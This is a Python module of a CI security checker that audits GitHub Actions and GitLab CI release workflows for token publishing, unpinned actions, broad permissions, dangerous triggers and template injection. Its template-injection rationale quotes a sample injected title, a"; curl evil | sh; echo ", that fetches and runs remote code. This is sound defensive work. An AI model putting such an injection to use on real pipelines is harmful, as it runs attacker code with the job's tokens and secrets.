"""The ``publishing`` and ``workflows`` categories of ``pyward release-check``: how a
project publishes (Trusted Publishing, a separate publishing job in a protected
environment, attestations) and how hardened its CI workflows are (pinned actions,
narrow token permissions, no dangerous triggers, no template injection, no persisted
credentials, no caches in release workflows).

GitHub Actions workflows and GitLab CI are read by :mod:`._ci`; each rule's semantics
follow zizmor's audits of the same name or purpose and the Scientific Python SPEC 8
("Securing the Release Process"), cited in ``docs/release-check.md``.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator, Mapping
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any

from pyward._release._ci import (
    Command,
    Job,
    Step,
    Workflow,
    assigned_names,
    commands,
    expression_contexts,
    expressions,
    load_workflows,
)
from pyward._release._model import Hit, Rule
from pyward.errors import InputError

if TYPE_CHECKING:
    from pyward._findings import Level
    from pyward._release._model import Confidence, Repo
    from pyward._release._yaml import Key

__all__ = ["RULES", "scan"]

_PUBLISH_ACTION = "pypa/gh-action-pypi-publish"
_CHECKOUT = "actions/checkout"
_SHA = re.compile(r"[0-9a-fA-F]{40}")

RULES: tuple[Rule, ...] = (
    Rule(
        id="publish-with-token",
        category="publishing",
        severity="high",
        title="packages published with Trusted Publishing, not a long-lived token",
        rationale=(
            "An API token stored as a CI secret is valid until someone revokes it: "
            "whoever reads it (a compromised step, a leaked log, a malicious pull request "
            "that reaches the secret) can publish releases from anywhere. Trusted "
            "Publishing exchanges the CI system's OIDC identity for a token that lives "
            "for minutes and only works from the configured workflow."
        ),
        fix=(
            "Register the workflow as a Trusted Publisher for the project on the index, "
            "grant `id-token: write` to the publishing job only, and drop the password:\n\n"
            "```yaml\n"
            "publish:\n"
            "  environment: release\n"
            "  permissions:\n"
            "    id-token: write\n"
            "  steps:\n"
            "    - uses: pypa/gh-action-pypi-publish@<full commit SHA>  # vX.Y.Z\n"
            "```\n\n"
            "With uv: `uv publish --trusted-publishing always`. On GitLab, request an ID "
            "token (`id_tokens: PYPI_ID_TOKEN: aud: pypi`) in the publishing job and "
            "exchange it for a short-lived upload token as the index's GitLab guide "
            "shows. Then revoke the old token."
        ),
    ),
    Rule(
        id="publish-not-separate",
        category="publishing",
        severity="medium",
        title="the publishing job only publishes what a build job made",
        rationale=(
            "A job that builds and publishes runs the build backend, the project's "
            "build dependencies and its build scripts with the publishing credential in "
            "reach. A separate build job without privileges that hands its artifacts on "
            "keeps that code away from the credential."
        ),
        fix=(
            "Build in one job and upload the `dist/` directory with "
            "`actions/upload-artifact`; in the publishing job (with `needs: [build]`) "
            "download it with `actions/download-artifact` and only publish. On GitLab, "
            "pass `dist/` as `artifacts:` of the build job."
        ),
    ),
    Rule(
        id="id-token-too-broad",
        category="publishing",
        severity="medium",
        title="`id-token: write` granted only to the job that publishes",
        rationale=(
            "`id-token: write` lets a job mint an OIDC token in the workflow's name, "
            "which is what a Trusted Publisher accepts. Granted to the whole workflow or "
            "to a job that does not publish, it hands publishing rights to code (tests, "
            "linters, build scripts) that has no need of them."
        ),
        fix=(
            "Set `permissions: {}` (or `contents: read`) at the workflow level and "
            "grant `id-token: write` in the publishing job's own `permissions:`. On "
            "GitLab, declare `id_tokens:` in the publishing job only, not in `default:` "
            "or a job that does not publish."
        ),
    ),
    Rule(
        id="publish-no-environment",
        category="publishing",
        severity="medium",
        title="the publishing job runs in a protected deployment environment",
        rationale=(
            "A deployment environment can require a reviewer's approval and restrict "
            "which branches and tags may deploy; a Trusted Publisher can be bound to it. "
            "Without one, anyone who can push to the trigger (a tag, a branch) publishes "
            "a release alone (SPEC 8, 'Use GitHub Actions environments')."
        ),
        fix=(
            "Add `environment: release` (or `environment: {name: pypi, url: ...}`) to "
            "the publishing job, set required reviewers and allowed tags for it in the "
            "repository's settings, and name it in the Trusted Publisher's "
            "configuration. On GitLab, use a protected environment."
        ),
    ),
    Rule(
        id="attestations-disabled",
        category="publishing",
        severity="medium",
        title="PEP 740 attestations not turned off",
        rationale=(
            "With Trusted Publishing, pypa/gh-action-pypi-publish signs each file and "
            "uploads a PEP 740 attestation that lets anyone verify which repository and "
            "workflow produced it. `attestations: false` throws that provenance away."
        ),
        fix="Remove `attestations: false` from the publish step's `with:`.",
    ),
    Rule(
        id="no-publish-workflow",
        category="publishing",
        severity="low",
        title="releases published by CI",
        rationale=(
            "A Python project whose CI never publishes is released from someone's "
            "machine, with an index token stored there, and none of the other publishing "
            "rules can vouch for it (SPEC 8 wants the release published by a reviewed "
            "workflow). Not reported when a workflow calls a reusable workflow or a local "
            "action, which may publish out of sight, or when a CI file could not be read."
        ),
        fix=(
            "Add a release workflow that builds in one job and publishes with Trusted "
            "Publishing from another, in an environment (see publish-with-token and "
            "publish-not-separate)."
        ),
    ),
    Rule(
        id="unpinned-action",
        category="workflows",
        severity="high",
        title="actions and included CI templates pinned to a full commit SHA",
        rationale=(
            "A tag or branch can be moved to other code at any time, as the "
            "tj-actions/changed-files compromise did to thousands of workflows in 2025. "
            "Only a full 40-character commit SHA names fixed code. First-party "
            "`actions/*` and `github/*` actions are reported at low severity (the policy "
            "zizmor's `unpinned-uses` used to default to); third-party ones at high."
        ),
        fix=(
            "Pin to the commit SHA and keep the version in a comment, which Dependabot "
            "and Renovate update:\n\n"
            "```yaml\n"
            "- uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683  # v4.2.2\n"
            "```\n\n"
            "Tools such as pinact, gha-update or frizbee pin a whole workflow. Docker "
            "actions: `docker://image@sha256:<digest>`. GitLab: `ref:` a commit SHA for "
            "`include: project:`, `integrity: sha256-...` for `include: remote:`, "
            "`@<commit SHA>` for components."
        ),
    ),
    Rule(
        id="excessive-permissions",
        category="workflows",
        severity="medium",
        title="the GITHUB_TOKEN's permissions declared and narrow",
        rationale=(
            "Without a `permissions:` block, jobs get the repository's default token "
            "permissions, which are write-all for older repositories and organisations. "
            "Write scopes granted at the workflow level reach every job, including those "
            "that run third-party code (SPEC 8, 'Restrict permissions in CI runners')."
        ),
        fix=(
            "Declare the least at the top and widen per job:\n\n"
            "```yaml\n"
            "permissions:\n"
            "  contents: read\n"
            "jobs:\n"
            "  release:\n"
            "    permissions:\n"
            "      contents: write  # create the GitHub release\n"
            "```\n\n"
            "A workflow whose jobs need no token at all declares `permissions: {}`."
        ),
    ),
    Rule(
        id="dangerous-trigger",
        category="workflows",
        severity="high",
        title="no `pull_request_target` or `workflow_run` triggers",
        rationale=(
            "These triggers run with the base repository's secrets and a writable token "
            "for events a fork controls. Checking out and running the pull request's "
            "code there ('pwn request') gives the fork those secrets; even without a "
            "checkout, argument and environment injection often reach code execution. "
            "Reported at high severity when the workflow checks out the untrusted head, "
            "medium otherwise."
        ),
        fix=(
            "Use `pull_request` (no secrets, read-only token) unless the workflow must "
            "write to the base repository; replace `workflow_run` with a reusable "
            "workflow (`workflow_call`). If the trigger must stay, never check out or run "
            "the pull request's code in it, and restrict it with a branch filter."
        ),
    ),
    Rule(
        id="template-injection",
        category="workflows",
        severity="high",
        title="no attacker-controlled `${{ ... }}` expansions in scripts",
        rationale=(
            "GitHub expands `${{ ... }}` into a `run:` script's text before the shell "
            'reads it, so an issue title or branch name such as `a"; curl evil | sh; '
            "echo \"` becomes code, with the job's token and secrets. Workflow inputs "
            "(`inputs.*`) are reported at low severity: only people who may run the "
            "workflow set them. GitLab expands variables in the shell, so only an "
            "unquoted commit message or merge request title (word splitting, argument "
            "injection) is reported, at low severity and confidence."
        ),
        fix=(
            "Pass the value through an environment variable and quote it:\n\n"
            "```yaml\n"
            '- run: echo "$TITLE"\n'
            "  env:\n"
            "    TITLE: ${{ github.event.issue.title }}\n"
            "```\n\n"
            "In `actions/github-script`, read `context.payload` instead of expanding "
            'into the script. On GitLab, quote: `"$CI_COMMIT_MESSAGE"`.'
        ),
    ),
    Rule(
        id="persist-credentials",
        category="workflows",
        severity="medium",
        title="actions/checkout does not leave the token on disk",
        rationale=(
            "actions/checkout writes the job's token into the git configuration (under "
            "`$RUNNER_TEMP` from v6) for later git commands, where any later step can "
            "read it and an uploaded artifact can carry it ('ArtiPACKED'). Reported at "
            "low severity for v6 and later."
        ),
        fix=(
            "```yaml\n"
            "- uses: actions/checkout@<full commit SHA>  # vX.Y.Z\n"
            "  with:\n"
            "    persist-credentials: false\n"
            "```\n\n"
            "Write `persist-credentials: true` where a later step really pushes."
        ),
    ),
    Rule(
        id="cache-in-release",
        category="workflows",
        severity="high",
        title="no build caches restored on the way to a release",
        rationale=(
            "Any workflow run with the repository's token, including one from a "
            "pull request's code, can write cache entries that a later release run "
            "restores ('cache poisoning'). A poisoned cache in the publishing job or a "
            "job that builds what it publishes runs an attacker's code into the "
            "released files."
        ),
        fix=(
            "Remove the cache from the jobs that lead to publishing, or turn it off for "
            "releases: `enable-cache: false` (setup-uv), no `cache:` input "
            "(setup-python), `lookup-only: true` (rust-cache), or an expression such "
            "as `enable-cache: ${{ !startsWith(github.ref, 'refs/tags/') }}`."
        ),
    ),
)

_RULES = {rule.id: rule for rule in RULES}


def scan(repo: Repo) -> Iterable[Hit]:
    """Every hit of this module's rules in the checkout's CI configuration. A file that
    cannot be read is raised as :class:`~pyward.errors.InputError` last, after the hits
    of every other file (the runner reports it as not checked)."""
    errors: list[InputError] = []
    publishes = unseen = False
    for workflow in load_workflows(repo, errors):
        publishing = _Publishing(workflow)
        publishes = publishes or bool(publishing.publishes)
        unseen = unseen or _calls_unseen_code(workflow)
        yield from _scan_workflow(publishing)
    if not (publishes or unseen or errors) and _python_project(repo):
        yield Hit(
            rule="no-publish-workflow",
            message="no CI workflow publishes this package (.github/workflows/, "
            ".gitlab-ci.yml): releases are uploaded by hand, or by CI this check cannot see",
            confidence="medium",
        )
    if errors:
        first = errors[0]
        if len(errors) == 1:
            raise first
        more = len(errors) - 1
        raise InputError(
            first.file,
            f"{first.what} (and {more} more {'file' if more == 1 else 'files'} not read)",
            where=first.where,
        )


def _scan_workflow(publishing: _Publishing) -> Iterator[Hit]:
    workflow = publishing.workflow
    yield from _publish_with_token(publishing)
    yield from _publish_not_separate(publishing)
    yield from _id_token_too_broad(publishing)
    yield from _publish_no_environment(publishing)
    yield from _attestations_disabled(workflow)
    yield from _unpinned(workflow)
    if workflow.platform == "github":
        yield from _excessive_permissions(workflow)
        yield from _dangerous_triggers(workflow)
        yield from _github_injection(workflow)
        yield from _persist_credentials(workflow)
        yield from _cache_in_release(publishing)
    else:
        yield from _gitlab_injection(workflow)


def _python_project(repo: Repo) -> bool:
    return any(repo.text(name) is not None for name in ("pyproject.toml", "setup.py", "setup.cfg"))


def _calls_unseen_code(workflow: Workflow) -> bool:
    """Whether the workflow runs steps this check does not read, which may publish: a
    reusable workflow (``jobs.<id>.uses``) or a local action (``uses: ./...``)."""
    return any(
        job.uses is not None or any((step.uses or "").startswith("./") for step in job.steps)
        for job in workflow.jobs
    )


def _hit(
    workflow: Workflow,
    rule: str,
    message: str,
    path: tuple[Key, ...],
    subject: str,
    *,
    line: int | None = None,
    severity: Level | None = None,
    confidence: Confidence | None = None,
) -> Hit:
    place = workflow.doc.place(*path)
    column = place.column if place is not None and line is None else None
    if line is None and place is not None:
        line = place.line
    return Hit(
        rule=rule,
        message=message,
        file=workflow.file,
        line=line,
        column=column,
        severity=severity if severity != _RULES[rule].severity else None,
        confidence=confidence,
        subject=subject,
    )


# -- what publishes ----------------------------------------------------------------------


@dataclass(frozen=True, slots=True, kw_only=True)
class _Publish:
    """One step (GitLab: script line) that uploads to a package index."""

    job: Job
    step: Step
    tool: str
    """``pypa/gh-action-pypi-publish``, ``twine upload``, ``uv publish``..."""
    token: str | None
    """What carries a long-lived token (``the 'password' input``), if one does."""
    token_path: tuple[Key, ...]
    """Where that is written (the step's path when no better place is known)."""
    builds: bool
    """Whether the publishing command builds the files itself (``flit publish``)."""


#: Environment variables that carry a publishing password or token, per tool.
_TOKEN_VARIABLES: Mapping[str, tuple[str, ...]] = {
    "twine": ("TWINE_PASSWORD",),
    "uv": ("UV_PUBLISH_TOKEN", "UV_PUBLISH_PASSWORD"),
    "flit": ("FLIT_PASSWORD",),
    "hatch": ("HATCH_INDEX_AUTH",),
    "pdm": ("PDM_PUBLISH_PASSWORD",),
    "maturin": ("MATURIN_PYPI_TOKEN", "MATURIN_PASSWORD"),
    "poetry": (),
}
#: Command-line options that carry one.
_TOKEN_OPTIONS: Mapping[str, tuple[str, ...]] = {
    "twine": ("-p", "--password"),
    "uv": ("-t", "--token", "-p", "--password"),
    "flit": (),
    "hatch": ("-a", "--auth"),
    "pdm": ("-P", "--password"),
    "maturin": ("-p", "--password"),
    "poetry": ("-p", "--password"),
}
#: The sub-command that publishes, per tool.
_PUBLISH_VERBS: Mapping[str, frozenset[str]] = {
    "twine": frozenset({"upload"}),
    "uv": frozenset({"publish"}),
    "flit": frozenset({"publish"}),
    "hatch": frozenset({"publish"}),
    "pdm": frozenset({"publish"}),
    "maturin": frozenset({"publish", "upload"}),
    "poetry": frozenset({"publish"}),
}
#: Short-lived credentials a CI system issues per job: not a stored secret.
_EPHEMERAL = re.compile(
    r"CI_JOB_TOKEN|secrets\s*\.\s*GITHUB_TOKEN|github\s*\.\s*token|steps\s*\.", re.IGNORECASE
)


class _Publishing:
    """What publishes in one workflow, and the jobs that lead to it."""

    def __init__(self, workflow: Workflow) -> None:
        self.workflow = workflow
        self.publishes: list[_Publish] = []
        for job in workflow.jobs:
            self.publishes.extend(_job_publishes(workflow, job))
        self.jobs: dict[str, Job] = {}
        for publish in self.publishes:
            self.jobs.setdefault(publish.job.id, publish.job)

    def upstream(self) -> list[Job]:
        """The publishing jobs and every job they need, directly or not."""
        order: list[Job] = []
        seen: set[str] = set()
        pending = list(self.jobs)
        while pending:
            job_id = pending.pop(0)
            job = self.workflow.job(job_id)
            if job is None or job_id in seen:
                continue
            seen.add(job_id)
            order.append(job)
            pending.extend(job.needs)
        return order


def _job_publishes(workflow: Workflow, job: Job) -> Iterator[_Publish]:
    config_token: tuple[str, tuple[Key, ...]] | None = None
    for step in job.steps:
        if step.action == _PUBLISH_ACTION:
            yield _action_publish(workflow, job, step)
            continue
        if step.action == "pyo3/maturin-action":
            verb = str(step.with_.get("command", "build"))
            if verb in {"upload", "publish"}:
                token = _env_token(workflow, job, step, None, "maturin")
                yield _Publish(
                    job=job,
                    step=step,
                    tool=f"maturin {verb}",
                    token=token[0] if token else None,
                    token_path=token[1] if token else step.path,
                    builds=verb == "publish",
                )
            continue
        if step.run is None:
            continue
        for command in commands(step.run):
            if _is_poetry_token_config(command):
                config_token = (
                    "a token stored with 'poetry config pypi-token'",
                    (*step.path, "run") if workflow.platform == "github" else step.path,
                )
            publish = _command_publish(workflow, job, step, command, config_token)
            if publish is not None:
                yield publish


def _action_publish(workflow: Workflow, job: Job, step: Step) -> _Publish:
    password = step.with_.get("password")
    user = step.with_.get("user")
    token: str | None = None
    token_path: tuple[Key, ...] = step.path
    if isinstance(password, str) and _stored_secret(workflow, job, password):
        token, token_path = "the 'password' input", (*step.path, "with", "password")
    elif user == "__token__":
        token, token_path = "'user: __token__'", (*step.path, "with", "user")
    return _Publish(
        job=job, step=step, tool=_PUBLISH_ACTION, token=token, token_path=token_path, builds=False
    )


def _command_publish(
    workflow: Workflow,
    job: Job,
    step: Step,
    command: Command,
    config_token: tuple[str, tuple[Key, ...]] | None,
) -> _Publish | None:
    verbs = _PUBLISH_VERBS.get(command.program)
    positional = command.positional()
    if verbs is None or not positional or positional[0] not in verbs:
        return None
    if command.has("--dry-run"):
        return None
    tool = f"{command.program} {positional[0]}"
    run_path: tuple[Key, ...] = (*step.path, "run") if workflow.platform == "github" else step.path
    token: tuple[str, tuple[Key, ...]] | None = None
    option_value = command.value(*_TOKEN_OPTIONS[command.program])
    if option_value is not None and _stored_secret(workflow, job, option_value):
        token = (f"the {_option_name(command)} option", run_path)
    if token is None:
        token = _env_token(workflow, job, step, command, command.program)
    if token is None and command.program == "poetry":
        token = _poetry_env_token(workflow, job, step, command) or config_token
    builds = (
        command.program == "flit"
        or (command.program == "maturin" and positional[0] == "publish")
        or (command.program == "pdm" and not command.has("--no-build"))
        or (command.program == "poetry" and command.has("--build"))
    )
    return _Publish(
        job=job,
        step=step,
        tool=tool,
        token=token[0] if token else None,
        token_path=token[1] if token else run_path,
        builds=builds,
    )


def _option_name(command: Command) -> str:
    for arg in command.args:
        name = arg.partition("=")[0]
        if name in _TOKEN_OPTIONS[command.program]:
            return f"'{name}'"
    return "password"


def _env_token(
    workflow: Workflow, job: Job, step: Step, command: Command | None, tool: str
) -> tuple[str, tuple[Key, ...]] | None:
    for name in _TOKEN_VARIABLES.get(tool, ()):
        found = _variable(workflow, job, step, command, name)
        if found is not None:
            return found
    return None


def _poetry_env_token(
    workflow: Workflow, job: Job, step: Step, command: Command
) -> tuple[str, tuple[Key, ...]] | None:
    names = [*command.assignments, *step.env, *job.env]
    for name in names:
        if name.startswith("POETRY_PYPI_TOKEN_") or (
            name.startswith("POETRY_HTTP_BASIC_") and name.endswith("_PASSWORD")
        ):
            found = _variable(workflow, job, step, command, name)
            if found is not None:
                return found
    return None


def _variable(
    workflow: Workflow, job: Job, step: Step, command: Command | None, name: str
) -> tuple[str, tuple[Key, ...]] | None:
    """Where ``name`` is set for this command with a value that is not an ephemeral
    token: the command's own assignment, the step's ``env:``, the job's."""
    run_path: tuple[Key, ...] = (*step.path, "run") if workflow.platform == "github" else step.path
    candidates: list[tuple[Any, tuple[Key, ...]]] = []
    if command is not None and name in command.assignments:
        candidates.append((command.assignments[name], run_path))
    if name in step.env:
        candidates.append((step.env[name], (*step.path, "env", name)))
    if name in job.env:
        candidates.append((job.env[name], job.env_paths.get(name, job.path)))
    for value, path in candidates:
        text = "" if value is None else str(value)
        if _stored_secret(workflow, job, text):
            return f"{name}", path
        return None  # the nearest setting wins, and it holds no stored secret
    return None


def _stored_secret(workflow: Workflow, job: Job, value: str) -> bool:
    """Whether ``value``, given as a publishing credential, is a stored secret: not
    empty, not a per-job token, and not a shell variable the job's own script sets
    when it can mint an OIDC token (the manual Trusted Publishing exchange of the
    index's GitLab guide: ``api_token=$(...mint-token...)``, then
    ``twine upload --password "$api_token"``)."""
    if not value.strip() or _EPHEMERAL.search(value):
        return False
    if not _id_token_job(workflow, job):
        return True
    minted = set().union(*(assigned_names(step.run or "") for step in job.steps))
    used = set(re.findall(r"\$\{?([A-Za-z_]\w*)", value))
    return not used or not used <= minted


def _is_poetry_token_config(command: Command) -> bool:
    positional = command.positional()
    return (
        command.program == "poetry"
        and len(positional) >= 3
        and positional[0] == "config"
        and positional[1].startswith("pypi-token.")
    )


def _id_token_job(workflow: Workflow, job: Job) -> bool:
    """Whether the job can mint an OIDC token (GitHub ``id-token: write``, its own or
    inherited; GitLab ``id_tokens:``)."""
    if workflow.platform == "gitlab":
        return bool(job.id_tokens)
    permissions = job.permissions if job.permissions is not None else workflow.permissions
    return _grants_id_token(permissions)


def _grants_id_token(permissions: Any) -> bool:
    if permissions == "write-all":
        return True
    return isinstance(permissions, dict) and permissions.get("id-token") == "write"


# -- publishing rules --------------------------------------------------------------------


def _publish_with_token(publishing: _Publishing) -> Iterator[Hit]:
    workflow = publishing.workflow
    for publish in publishing.publishes:
        subject = f"{publish.job.label} {publish.step.label}"
        if publish.token is not None:
            yield _hit(
                workflow,
                "publish-with-token",
                f"{publish.tool} in {publish.job.label} publishes with {publish.token}, "
                "a long-lived secret, instead of Trusted Publishing",
                publish.token_path,
                subject,
                confidence="high",
            )
        elif (
            workflow.platform == "gitlab"
            and not publish.job.id_tokens
            and not _ephemeral_credentials(publish)
        ):
            yield _hit(
                workflow,
                "publish-with-token",
                f"{publish.tool} in {publish.job.label} has no ID token (id_tokens:) for "
                "Trusted Publishing: its credentials must come from a CI/CD variable",
                publish.step.path,
                subject,
                confidence="low",
            )


def _ephemeral_credentials(publish: _Publish) -> bool:
    """Whether the publishing command is given a per-job credential (GitLab's
    ``CI_JOB_TOKEN``, for the project's own package registry)."""
    if _EPHEMERAL.search(publish.step.run or ""):
        return True
    tool = publish.tool.split(" ", 1)[0]
    return any(
        _EPHEMERAL.search(str(publish.job.env.get(name, "")))
        for name in _TOKEN_VARIABLES.get(tool, ())
    )


#: Actions that build distributions.
_BUILD_ACTIONS = frozenset(
    {"pypa/cibuildwheel", "hynek/build-and-inspect-python-package", "pypa/build"}
)
#: (program, first positional) pairs that build; ``None``: the program alone builds.
_BUILD_COMMANDS: Mapping[str, frozenset[str] | None] = {
    "build": None,
    "pyproject-build": None,
    "cibuildwheel": None,
    "uv": frozenset({"build"}),
    "hatch": frozenset({"build"}),
    "hatchling": frozenset({"build"}),
    "poetry": frozenset({"build"}),
    "flit": frozenset({"build"}),
    "pdm": frozenset({"build"}),
    "maturin": frozenset({"build", "sdist"}),
    "pip": frozenset({"wheel"}),
    "setup.py": frozenset({"sdist", "bdist_wheel", "bdist"}),
}


def _build_step(step: Step) -> str | None:
    """What builds distributions in this step, if anything."""
    if step.action in _BUILD_ACTIONS:
        return step.uses
    if step.action == "pyo3/maturin-action":
        verb = str(step.with_.get("command", "build"))
        return f"maturin {verb}" if verb in {"build", "sdist", "publish"} else None
    for command in commands(step.run or ""):
        program, args = command.program, command.positional()
        if program.startswith("python") and args and args[0].endswith("setup.py"):
            program, args = "setup.py", args[1:]
        if program not in _BUILD_COMMANDS:
            continue
        verbs = _BUILD_COMMANDS[program]
        if verbs is None:
            return "python -m build" if program == "build" else program
        if args and args[0] in verbs:
            return f"{program} {args[0]}"
    return None


def _publish_not_separate(publishing: _Publishing) -> Iterator[Hit]:
    workflow = publishing.workflow
    for job in publishing.jobs.values():
        found: tuple[Step, str] | None = None
        for step in job.steps:
            what = _build_step(step)
            if what is not None:
                found = (step, what)
                break
        if found is None:
            publish = next((p for p in publishing.publishes if p.job is job and p.builds), None)
            if publish is not None:
                found = (publish.step, f"{publish.tool} (which builds)")
        if found is None:
            continue
        step, what = found
        yield _hit(
            workflow,
            "publish-not-separate",
            f"{job.label} publishes and also builds ({what} in {step.label}): build in "
            "a job without publishing rights and pass the files on as artifacts",
            step.path,
            job.label,
        )


#: Actions that use the job's OIDC token for something other than publishing.
_OIDC_ACTIONS = frozenset(
    {
        "actions/attest",
        "actions/attest-build-provenance",
        "actions/attest-sbom",
        "sigstore/gh-action-sigstore-python",
        "aws-actions/configure-aws-credentials",
        "google-github-actions/auth",
        "azure/login",
        "codecov/codecov-action",
        "hashicorp/vault-action",
        "ossf/scorecard-action",  # signs and publishes the Scorecard results
        "actions/deploy-pages",
    }
)


def _uses_oidc_otherwise(job: Job) -> bool:
    for step in job.steps:
        if step.action in _OIDC_ACTIONS:
            return True
        for command in commands(step.run or ""):
            if command.program in {"sigstore", "cosign"} or (
                command.program == "npm" and command.positional()[:1] == ("publish",)
            ):
                return True
    return False


def _id_token_too_broad(publishing: _Publishing) -> Iterator[Hit]:
    workflow = publishing.workflow

    def needless(job: Job) -> bool:
        return job.id not in publishing.jobs and job.uses is None and not _uses_oidc_otherwise(job)

    if workflow.platform == "gitlab":
        for job in workflow.jobs:
            if not _pypi_audience(job.id_tokens) or not needless(job):
                continue
            yield _hit(
                workflow,
                "id-token-too-broad",
                f"{job.label} gets an ID token for the package index (id_tokens:) but does "
                "not publish",
                job.id_tokens_path or job.path,
                job.label,
            )
        return
    if _grants_id_token(workflow.permissions):
        inheriting = [job.id for job in workflow.jobs if job.permissions is None and needless(job)]
        if inheriting:
            path: tuple[Key, ...] = (
                ("permissions", "id-token")
                if isinstance(workflow.permissions, dict)
                else ("permissions",)
            )
            yield _hit(
                workflow,
                "id-token-too-broad",
                "id-token: write is granted to the whole workflow, so jobs that do not "
                f"publish get it too ({', '.join(inheriting)})",
                path,
                "workflow",
            )
    for job in workflow.jobs:
        if job.permissions is None or not _grants_id_token(job.permissions) or not needless(job):
            continue
        path = (
            (*job.path, "permissions", "id-token")
            if isinstance(job.permissions, dict)
            else (*job.path, "permissions")
        )
        yield _hit(
            workflow,
            "id-token-too-broad",
            f"{job.label} has id-token: write but does not publish",
            path,
            job.label,
        )


def _pypi_audience(id_tokens: Mapping[str, Any]) -> bool:
    for token in id_tokens.values():
        audience = token.get("aud") if isinstance(token, dict) else None
        values = audience if isinstance(audience, list) else [audience]
        if any(isinstance(value, str) and "pypi" in value.lower() for value in values):
            return True
    return False


def _publish_no_environment(publishing: _Publishing) -> Iterator[Hit]:
    workflow = publishing.workflow
    for job in publishing.jobs.values():
        if job.environment:
            continue
        yield _hit(
            workflow,
            "publish-no-environment",
            f"{job.label} publishes without a deployment environment (environment:) that "
            "could require approval",
            job.path,
            job.label,
        )


def _attestations_disabled(workflow: Workflow) -> Iterator[Hit]:
    for job in workflow.jobs:
        for step in job.steps:
            if step.action != _PUBLISH_ACTION:
                continue
            value = step.with_.get("attestations")
            if value is False or (isinstance(value, str) and value.strip().lower() == "false"):
                yield _hit(
                    workflow,
                    "attestations-disabled",
                    f"{step.uses} in {job.label} is told not to upload PEP 740 attestations "
                    "(attestations: false)",
                    (*step.path, "with", "attestations"),
                    f"{job.label} {step.label}",
                )


# -- workflow rules ----------------------------------------------------------------------

_FIRST_PARTY = frozenset({"actions", "github"})
_SLSA_GENERATOR = "slsa-framework/slsa-github-generator/"


def _unpinned(workflow: Workflow) -> Iterator[Hit]:
    if workflow.platform == "gitlab":
        yield from _unpinned_includes(workflow)
        return
    for job in workflow.jobs:
        if job.uses is not None:
            yield from _unpinned_reference(workflow, job.uses, (*job.path, "uses"), job.label)
        for step in job.steps:
            if step.uses is not None:
                yield from _unpinned_reference(
                    workflow, step.uses, (*step.path, "uses"), f"{job.label} {step.label}"
                )


def _unpinned_reference(
    workflow: Workflow, uses: str, path: tuple[Key, ...], subject: str
) -> Iterator[Hit]:
    if uses.startswith("./"):
        return
    if uses.startswith("docker://"):
        if "@sha256:" not in uses:
            yield _hit(
                workflow,
                "unpinned-action",
                f"{uses} is not pinned to an image digest (@sha256:...)",
                path,
                subject,
                severity="medium",
            )
        return
    name, _, ref = uses.partition("@")
    if _SHA.fullmatch(ref):
        return
    if name.lower().startswith(_SLSA_GENERATOR) and re.fullmatch(
        r"(?:refs/tags/)?v\d+\.\d+\.\d+", ref
    ):
        # Its reusable workflows verify the ref they are called by and refuse a commit
        # SHA: a release tag is the pin (slsa-framework/slsa-github-generator#722).
        return
    owner = name.split("/", 1)[0].lower()
    first_party = owner in _FIRST_PARTY
    why = "no ref at all" if not ref else "a tag or branch can be moved"
    yield _hit(
        workflow,
        "unpinned-action",
        f"{uses} is not pinned to a full commit SHA ({why})"
        + ("; first-party action: low severity" if first_party else ""),
        path,
        subject,
        severity="low" if first_party else "high",
    )


def _unpinned_includes(workflow: Workflow) -> Iterator[Hit]:
    for position, include in enumerate(workflow.includes, start=1):
        subject = f"include {position}"
        if include.kind == "remote" and not include.integrity:
            yield _hit(
                workflow,
                "unpinned-action",
                f"remote include {include.target} is fetched on every pipeline and not "
                "checked (no integrity:)",
                include.path,
                subject,
            )
        elif include.kind == "project" and not (include.ref and _SHA.fullmatch(include.ref)):
            ref = f"ref {include.ref}" if include.ref else "no ref: the default branch"
            yield _hit(
                workflow,
                "unpinned-action",
                f"include of project {include.target} is not pinned to a commit SHA ({ref})",
                include.path,
                subject,
            )
        elif include.kind == "component" and not (include.ref and _SHA.fullmatch(include.ref)):
            version = include.ref or "no version"
            yield _hit(
                workflow,
                "unpinned-action",
                f"component {include.target}@{version} is not pinned to a commit SHA",
                include.path,
                subject,
                severity="high" if version in {"~latest", "no version"} else "medium",
            )


_WRITE = "write"


def _excessive_permissions(workflow: Workflow) -> Iterator[Hit]:
    top = workflow.permissions
    inheriting = [job for job in workflow.jobs if job.permissions is None]
    if "permissions" not in workflow.doc.value:
        if inheriting:
            names = ", ".join(job.id for job in inheriting)
            yield _hit(
                workflow,
                "excessive-permissions",
                "no top-level permissions: block, and jobs without their own "
                f"({names}) run with the repository's default token permissions",
                ("jobs",),
                "workflow",
            )
    elif top == "write-all":
        yield _hit(
            workflow,
            "excessive-permissions",
            "permissions: write-all grants every scope to every job",
            ("permissions",),
            "workflow",
            severity="high",
        )
    elif isinstance(top, dict) and len(inheriting) >= 2:
        # One job inheriting a workflow-level grant is the same as granting it to that
        # job (zizmorcore/zizmor#336); id-token is id-token-too-broad's.
        names = ", ".join(job.id for job in inheriting)
        for scope, level in top.items():
            if level != _WRITE or scope == "id-token":
                continue
            yield _hit(
                workflow,
                "excessive-permissions",
                f"{scope}: write is granted at the workflow level, so every job without "
                f"its own permissions gets it ({names})",
                ("permissions", scope),
                f"workflow {scope}",
            )
    for job in workflow.jobs:
        if job.permissions == "write-all":
            yield _hit(
                workflow,
                "excessive-permissions",
                f"{job.label} has permissions: write-all",
                (*job.path, "permissions"),
                job.label,
                severity="high",
            )


_DANGEROUS_TRIGGERS = ("pull_request_target", "workflow_run")
#: Contexts that name the untrusted head of a pull request or triggering run.
_UNTRUSTED_HEAD = (
    "github.event.pull_request.head.",
    "github.head_ref",
    "github.event.workflow_run.head_",
    "github.event.workflow_run.pull_requests",
)


def _dangerous_triggers(workflow: Workflow) -> Iterator[Hit]:
    triggers = [trigger for trigger in _DANGEROUS_TRIGGERS if trigger in workflow.triggers]
    head = _checks_out_head(workflow) if triggers else None
    for trigger in triggers:
        message = f"triggered by {trigger}, which runs with the base repository's secrets"
        if head is not None:
            message += f", and checks out the untrusted head ({head})"
        yield _hit(
            workflow,
            "dangerous-trigger",
            message,
            workflow.trigger_paths[trigger],
            f"trigger {trigger}",
            severity="high" if head is not None else "medium",
            confidence="high" if head is not None else "medium",
        )


def _checks_out_head(workflow: Workflow) -> str | None:
    for job in workflow.jobs:
        for step in job.steps:
            if step.action == _CHECKOUT:
                for key in ("ref", "repository"):
                    value = step.with_.get(key)
